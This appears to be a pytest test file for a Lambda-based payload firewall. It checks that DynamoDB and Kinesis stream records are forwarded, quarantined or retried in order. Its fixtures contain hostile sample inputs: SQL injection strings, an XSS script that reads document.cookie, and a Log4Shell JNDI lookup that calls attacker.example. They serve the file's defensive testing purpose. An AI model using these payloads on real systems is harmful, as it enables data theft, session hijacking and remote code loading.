"""Stream routes: a DynamoDB table's stream (records read back from moto's DynamoDB Streams) and a
Kinesis stream (through the Lambda handler). A failure reports the first failed SequenceNumber, and
nothing after it is forwarded, so the retry from that record loses and reorders nothing."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

import pytest
from fw_functional import Account, Context, Deployed, Harness, check_envelope

ITEMS = {
    "order-1": {"customer": {"S": "ada"}, "note": {"S": "gift wrap please"}, "total": {"N": "42.5"}},
    "order-2": {"note": {"S": "1' UNION SELECT username, password FROM users--"}},
    "order-3": {"customer": {"S": "grace"}, "tags": {"SS": ["new", "vip"]}, "paid": {"BOOL": True}},
    "order-4": {"profile": {"M": {"bio": {"S": "<script>alert(document.cookie)</script>"}}}},
    "order-5": {"customer": {"S": "linus"}, "lines": {"L": [{"S": "pen"}, {"N": "3"}]}},
    "order-6": {"lines": {"L": [{"S": "ok"}, {"S": "${jndi:ldap://attacker.example/a}"}]}},
    "order-7": {"customer": {"S": "barbara"}, "address": {"M": {"city": {"S": "Zurich"}}}},
}
CLEAN = ["order-1", "order-3", "order-5", "order-7"]
MALICIOUS = ["order-2", "order-4", "order-6"]


@pytest.fixture
def stream(aws: Account) -> dict[str, dict[str, Any]]:
    """The table's stream records in Lambda's shape, by partition key (stream order kept)."""
    event = aws.dynamodb_event([{"pk": {"S": pk}} | item for pk, item in ITEMS.items()])
    records = {record["dynamodb"]["Keys"]["pk"]["S"]: record for record in event["Records"]}
    assert list(records) == list(ITEMS)
    return records


def seq(record: dict[str, Any]) -> str:
    return str(record["dynamodb"]["SequenceNumber"])


def failed_at(record: dict[str, Any]) -> dict[str, Any]:
    return {"batchItemFailures": [{"itemIdentifier": seq(record)}]}


def batch(stream: dict[str, dict[str, Any]], names: list[str] | None = None) -> dict[str, Any]:
    return {"Records": [stream[name] for name in (names or list(stream))]}


# -- DynamoDB streams ----------------------------------------------------------------------------


def test_clean_stream_batch_is_forwarded_unchanged(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    event = batch(stream, CLEAN)
    assert event["Records"][0]["eventSourceARN"].startswith("arn:aws:dynamodb:")
    assert fw.handle(event) == {"batchItemFailures": []}
    assert [i.invocation_type for i in fw.targets.invocations] == ["RequestResponse"]
    assert fw.target.events == [event]


def test_malicious_stream_records_are_quarantined_whole(
    aws: Account, make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    assert fw.handle(batch(stream)) == {"batchItemFailures": []}
    assert fw.target.events == [batch(stream, CLEAN)]
    for name in MALICIOUS:
        record = stream[name]
        _, envelope = check_envelope(
            aws, fw, record, source="dynamodb", record_id=seq(record), source_arn=record["eventSourceARN"]
        )
        assert envelope["record"]["dynamodb"]["NewImage"] == stream[name]["dynamodb"]["NewImage"]
        assert all(m["path"].startswith("dynamodb.NewImage.") for m in envelope["verdict"]["matches"])


def test_target_partial_failure_reports_the_first_failed_sequence_number(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    fw.target.fails([seq(stream["order-7"]), seq(stream["order-3"])])
    assert fw.handle(batch(stream)) == failed_at(stream["order-3"])
    outcomes = [line["outcome"] for line in fw.record_lines()]
    assert outcomes == ["forwarded", "quarantined", "failed", "failed", "failed", "failed", "failed"]


def test_target_raising_reports_the_first_forwarded_record(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    fw.target.raises()
    names = ["order-2", "order-1", "order-3"]  # a quarantined record ahead of the failure stays settled
    assert fw.handle(batch(stream, names)) == failed_at(stream["order-1"])
    assert [line["outcome"] for line in fw.record_lines()] == ["quarantined", "failed", "failed"]


def test_throttled_target_reports_the_first_forwarded_record(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    fw.target.throttled()
    assert fw.handle(batch(stream)) == failed_at(stream["order-1"])
    assert fw.targets.invocations[0].error == "throttled"


def test_quarantine_write_failure_stops_the_batch_there(
    aws: Account, make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    unlucky = seq(stream["order-4"])
    outage = fw.fail_s3("PutObject", lambda params: unlucky in params["url_path"])
    assert fw.handle(batch(stream)) == failed_at(stream["order-4"])
    assert fw.target.records == [stream["order-1"], stream["order-3"]], "nothing after the failure is forwarded"
    assert len(aws.quarantined()) == 1  # order-2; order-4 and order-6 come again in the retry

    outage()  # Lambda retries from order-4: everything settles, nothing is lost or reordered
    retry = batch(stream, ["order-4", "order-5", "order-6", "order-7"])
    assert fw.handle(retry) == {"batchItemFailures": []}
    assert fw.target.records[2:] == [stream["order-5"], stream["order-7"]]
    assert len(aws.quarantined()) == len(MALICIOUS)


def test_missing_quarantine_bucket_fails_at_the_first_malicious_record(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall(quarantine=False)
    assert fw.handle(batch(stream)) == failed_at(stream["order-2"])
    assert fw.target.records == [stream["order-1"]]


@pytest.mark.parametrize(("on_error", "outcome"), [("quarantine", "quarantined"), ("forward", "forwarded")])
def test_malformed_stream_record_follows_the_error_policy(
    aws: Account, make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]], on_error: str, outcome: str
) -> None:
    broken = json.loads(json.dumps(stream["order-3"]))
    broken["dynamodb"]["NewImage"]["avatar"] = {"B": "not base64!"}
    event = {"Records": [stream["order-1"], broken, stream["order-5"]]}
    fw = make_firewall(on_error=on_error)
    assert fw.handle(event) == {"batchItemFailures": []}
    assert [line["outcome"] for line in fw.record_lines()] == ["forwarded", outcome, "forwarded"]
    if outcome == "quarantined":
        assert fw.target.records == [stream["order-1"], stream["order-5"]]
        check_envelope(
            aws,
            fw,
            broken,
            source="dynamodb",
            record_id=seq(broken),
            source_arn=broken["eventSourceARN"],
            detected=False,
        )
    else:
        assert fw.target.records == event["Records"]


@pytest.mark.parametrize(("on_oversize", "outcome"), [("quarantine", "quarantined"), ("forward", "forwarded")])
def test_oversize_stream_record_follows_the_policy(
    aws: Account, make_firewall: Callable[..., Harness], on_oversize: str, outcome: str
) -> None:
    big = {"pk": {"S": "order-big"}, "history": {"L": [{"S": f"status change {i}: packed"} for i in range(300)]}}
    event = aws.dynamodb_event([{"pk": {"S": "order-1"}} | ITEMS["order-1"], big])
    fw = make_firewall(max_bytes="4096", on_oversize=on_oversize)
    assert fw.handle(event) == {"batchItemFailures": []}
    assert [line["outcome"] for line in fw.record_lines()] == ["forwarded", outcome]
    forwarded = event["Records"] if outcome == "forwarded" else event["Records"][:1]
    assert fw.target.records == forwarded


def test_records_left_when_time_runs_out_are_retried_not_lost(
    make_firewall: Callable[..., Harness], stream: dict[str, dict[str, Any]]
) -> None:
    fw = make_firewall()
    response = fw.processor.handle(batch(stream), Context(remaining_ms=1_000))
    assert response == failed_at(stream["order-1"])
    assert fw.targets.invocations == []
    assert {line["reason"] for line in fw.record_lines()} <= {"out of time", "retried after an earlier record"}


# -- Kinesis, through the Lambda handler -----------------------------------------------------------

CLICKS = [
    json.dumps({"page": "/products/42", "ref": "https://www.example.com/"}).encode(),
    json.dumps({"page": "/search", "q": "' OR 1=1 UNION SELECT password FROM users--"}).encode(),
    b"plain text click: /home",
    json.dumps({"page": "/x", "ua": "${jndi:ldap://attacker.example/a}"}).encode(),
    json.dumps({"page": "/cart", "items": 2}).encode(),
]


def kseq(record: dict[str, Any]) -> str:
    return str(record["kinesis"]["sequenceNumber"])


def test_kinesis_through_the_handler(aws: Account, deploy: Callable[..., Deployed]) -> None:
    event = aws.kinesis_event(CLICKS)
    records = event["Records"]
    assert base64.b64decode(records[2]["kinesis"]["data"]) == CLICKS[2]
    handler = deploy()

    assert handler(event) == {"batchItemFailures": []}
    assert handler.target.events == [{"Records": [records[0], records[2], records[4]]}]
    for record in (records[1], records[3]):
        check_envelope(
            aws,
            handler,
            record,
            source="kinesis",
            record_id=kseq(record),
            source_arn=record["eventSourceARN"],
        )


def test_kinesis_failure_reports_the_first_failed_sequence_number(
    aws: Account, deploy: Callable[..., Deployed]
) -> None:
    event = aws.kinesis_event(CLICKS)
    records = event["Records"]
    handler = deploy()
    handler.target.fails([kseq(records[4])])
    assert handler(event) == {"batchItemFailures": [{"itemIdentifier": kseq(records[4])}]}
    handler.target.raises()
    assert handler(event) == {"batchItemFailures": [{"itemIdentifier": kseq(records[0])}]}


def test_kinesis_malformed_data_is_quarantined(aws: Account, deploy: Callable[..., Deployed]) -> None:
    event = aws.kinesis_event(CLICKS[:1])
    broken = json.loads(json.dumps(event["Records"][0]))
    broken["kinesis"]["data"] = "%%% not base64 %%%"
    broken["kinesis"]["sequenceNumber"] = "999"
    handler = deploy()
    assert handler({"Records": [event["Records"][0], broken]}) == {"batchItemFailures": []}
    assert handler.target.records == [event["Records"][0]]
    check_envelope(
        aws,
        handler,
        broken,
        source="kinesis",
        record_id="999",
        source_arn=broken["eventSourceARN"],
        detected=False,
    )
